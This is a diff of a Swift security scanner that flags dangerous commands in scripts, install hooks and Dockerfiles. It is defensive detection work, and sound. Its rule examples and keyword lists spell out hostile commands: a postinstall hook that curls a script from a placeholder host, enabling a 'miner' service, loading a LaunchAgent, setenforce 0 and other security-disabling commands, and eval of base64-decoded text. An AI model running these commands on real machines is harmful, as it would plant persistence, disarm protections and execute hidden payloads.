@@ -13,18 +13,18 @@ public struct ScriptDetector: Sendable {
 
     /// Rules whose subject is the developer's own machine: inside a container build they are the
     /// normal way to slim an image (`rm -rf /var/lib/apt/lists/*`), so Dockerfiles skip them.
-    static let hostOnlyPrefixes = ["fs.", "perm.", "system.", "git.", "self.", "cred.read"]
+    static let hostOnlyPrefixes = ["fs.", "perm.", "system.", "git.", "self."]
 
-    static let parseFailures: Set<String> = ["shell.unparseable", "shell.too-deep", "shell.too-large"]
+    static let parseFailures: Set<String> = [ShellRules.unparseable.id, ShellRules.tooDeep.id, ShellRules.tooLarge.id]
 
     /// Committed code is reported when it is clearly dangerous: every `deny`, and the `ask`
     /// verdicts of categories that are about attacks rather than uncertainty. (`rm -rf "$tmp"`,
     /// `"$bin" --flag` and `git reset --hard` in a build script are what scripts are for.)
-    static let askCategoriesForScripts = ["rce.", "revshell.", "exfil.", "creds.", "cred.", "ssrf.", "self.", "script."]
+    static let askCategoriesForScripts = ["rce.", "revshell.", "exfil.", "cred.", "ssrf.", "self.", "script.", "persist.", "supply."]
 
     /// Verdicts about uncertainty (an unknown path that might be a credential file) are for the
     /// agent hook, which can ask; in committed code they would only be noise.
-    static let uncertainRules: Set<String> = ["creds.maybe", "shell.dynamic-command", "fs.rm-unknown"]
+    static let uncertainRules: Set<String> = [CredentialRules.maybe.id, ShellRules.dynamicCommand.id, ShellRules.dynamicCode.id, "fs.rm-unknown"]
 
     static func reportable(_ v: Verdict) -> Bool {
         !uncertainRules.contains(v.ruleID) && (v.decision == .deny || askCategoriesForScripts.contains { v.ruleID.hasPrefix($0) })
@@ -83,7 +83,7 @@ public struct ScriptDetector: Sendable {
 
     func unicodeFindings(path: String, lines: ArraySlice<Substring>, firstLine: Int) -> [Finding] {
         InvisibleUnicode.scan(Array(lines), firstLine: firstLine, path: path).map { hit in
-            var f = Finding(ruleID: hit.ruleID, description: hit.reason, severity: hit.ruleID == "unicode.mixed-script-identifier" ? .medium : .high,
+            var f = Finding(ruleID: hit.ruleID, description: hit.reason, severity: InvisibleUnicode.rules.first { $0.id == hit.ruleID }?.severity ?? .high,
                             path: path, line: hit.line, column: hit.column, endLine: hit.line, endColumn: hit.column,
                             secret: "U+\(InvisibleUnicode.hex(hit.scalar.value))")
             f.isSecret = false
@@ -96,7 +96,7 @@ public struct ScriptDetector: Sendable {
             !ScriptDetector.parseFailures.contains($0.ruleID) && ScriptDetector.reportable($0)
         }
         if snippet.origin == .dockerfile {
-            verdicts = verdicts.filter { v in !ScriptDetector.hostOnlyPrefixes.contains { v.ruleID.hasPrefix($0) } || v.ruleID == "fs.rm-root" }
+            verdicts = verdicts.filter { v in !ScriptDetector.hostOnlyPrefixes.contains { v.ruleID.hasPrefix($0) } || v.ruleID == FilesystemRules.rule("rm", .root)?.id }
         }
         verdicts += ScriptRules.verdicts(snippet)
         if ScriptRules.isPinnedDownload(snippet.text) {
@@ -136,6 +136,21 @@ public struct ScriptDetector: Sendable {
 /// Checks specific to code that runs unattended (scripts, CI, install hooks), on top of the
 /// command rule packs.
 enum ScriptRules {
+    // Examples are files as `path: text`.
+    static let installHookNetwork = GuardRule("script.install-hook-network", .ask,
+        "an install hook downloads or runs inline code: it runs on every install of the package and its dependents", kind: .script,
+        examples: ["package.json: {\"scripts\": {\"postinstall\": \"curl -s https://x.example/a.sh -o a.sh\"}}"],
+        counterExamples: ["package.json: {\"scripts\": {\"postinstall\": \"node build.js\"}}", "package.json: {\"scripts\": {\"test\": \"curl -s localhost:3000\"}}"])
+    static let persistence = GuardRule("script.persistence", .deny,
+        "installs itself to run again later (services, launch agents, start-up scripts)", kind: .script,
+        examples: ["install.sh: #!/bin/sh\nsystemctl enable --now miner.service", "setup.sh: cp agent.plist ~/Library/LaunchAgents/ && launchctl load ~/Library/LaunchAgents/agent.plist"],
+        counterExamples: ["install.sh: #!/bin/sh\nsystemctl status docker", "docs/setup.md: run `systemctl enable docker` yourself"])
+    static let disableSecurity = GuardRule("script.disable-security", .deny, "switches a security control off", kind: .script,
+        examples: ["setup.sh: #!/bin/sh\nsetenforce 0"], counterExamples: ["setup.sh: #!/bin/sh\ngetenforce"])
+    static let obfuscatedEval = GuardRule("script.obfuscated-eval", .deny, "evaluates decoded or obfuscated text", kind: .script,
+        examples: ["run.sh: #!/bin/sh\neval \"$(echo ZWNobyBoaQ== | base64 -d)\""], counterExamples: ["run.sh: #!/bin/sh\necho ZWNobyBoaQ== | base64 -d > out.txt"])
+    static let all = [installHookNetwork, persistence, disableSecurity, obfuscatedEval]
+
     static func verdicts(_ snippet: ScriptSnippet) -> [Verdict] {
         var out: [Verdict] = []
         let code = snippet.text.split(separator: "\n").map { line -> Substring in
@@ -153,26 +168,22 @@ enum ScriptRules {
         let bytes = Array(lower.utf8)
         func has(_ needles: [String]) -> String? { needles.first { ByteSearch.contains(bytes, $0) } }
         if snippet.origin == .installHook, let tool = has(["curl ", "wget ", "invoke-webrequest", "iwr ", "node -e", "python -c", "python3 -c"]) {
-            out.append(Verdict(ruleID: "script.install-hook-network", decision: .ask,
-                               reason: "an install hook runs `\(tool.trimmingWhitespace())`: it runs on every `npm install` of this package and its dependents", subject: code))
+            out.append(ScriptRules.installHookNetwork.verdict(code, reason: "an install hook runs `\(tool.trimmingWhitespace())`: it runs on every `npm install` of this package and its dependents"))
         }
         // Shell start-up files, authorized_keys, crontabs, firewalls, git hooks and --no-verify are
         // covered by the command rule packs; these are the remaining ways to persist or disarm.
         if let what = has(["systemctl enable", "launchctl load", "launchctl bootstrap", "/etc/rc.local", "/etc/profile.d/",
                            "/etc/systemd/system/", "/lib/systemd/system/", "update-rc.d"]) {
-            out.append(Verdict(ruleID: "script.persistence", decision: .deny,
-                               reason: "installs itself to run again later (\(what.trimmingWhitespace()))", subject: code))
+            out.append(ScriptRules.persistence.verdict(code, reason: "installs itself to run again later (\(what.trimmingWhitespace()))"))
         }
         if let what = has(["setenforce 0", "spctl --master-disable", "csrutil disable", "set-mppreference -disablerealtimemonitoring",
                            "systemctl stop apparmor", "systemctl disable apparmor", "aa-teardown", "sysctl -w kernel.randomize_va_space=0"]) {
-            out.append(Verdict(ruleID: "script.disable-security", decision: .deny,
-                               reason: "switches a security control off (\(what))", subject: code))
+            out.append(ScriptRules.disableSecurity.verdict(code, reason: "switches a security control off (\(what))"))
         }
         let rawBytes = Array(raw.utf8)
         if ByteSearch.contains(bytes, "eval"),
            let what = ["base64 -d", "base64 --decode", "xxd -r", "| rev", "openssl enc -d", "\\x"].first(where: { ByteSearch.contains(rawBytes, $0) }) {
-            out.append(Verdict(ruleID: "script.obfuscated-eval", decision: .deny,
-                               reason: "evaluates decoded or obfuscated text (\(what))", subject: code))
+            out.append(ScriptRules.obfuscatedEval.verdict(code, reason: "evaluates decoded or obfuscated text (\(what))"))
         }
         return out
     }
